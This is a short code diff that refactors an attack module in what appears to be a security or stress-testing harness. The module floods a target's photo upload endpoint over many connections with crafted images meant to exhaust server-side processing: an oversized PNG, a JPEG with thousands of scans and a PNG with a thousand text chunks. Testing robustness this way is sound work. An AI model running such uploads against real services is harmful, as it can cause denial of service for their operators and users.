@@ -13,15 +13,11 @@ export const attack: SurfaceAttack = {
     const path = await pathOfPhotos(target);
     const pictures = [widePng(6_000_000, 4), await jpegWithScans(2500), pngWithTexts(1000)];
     const client = new AttackClient(target);
-    const sendAll = async (_: unknown, first: number) => {
-      for (let sent = first; !isOver(); sent += 1) {
-        const picture = pictures[sent % pictures.length] ?? Buffer.alloc(0);
-        const upload = beginUpload(target, path, picture.length);
-        upload.end(picture);
-        client.count(await statusOf(upload));
-      }
-    };
-    await Promise.all(Array.from({ length: CONNECTIONS }, sendAll));
-    return client.counts;
+    return client.repeatWith(CONNECTIONS, isOver, async (index) => {
+      const picture = pictures[index % pictures.length] ?? Buffer.alloc(0);
+      const upload = beginUpload(target, path, picture.length);
+      upload.end(picture);
+      client.count(await statusOf(upload));
+    });
   },
 };
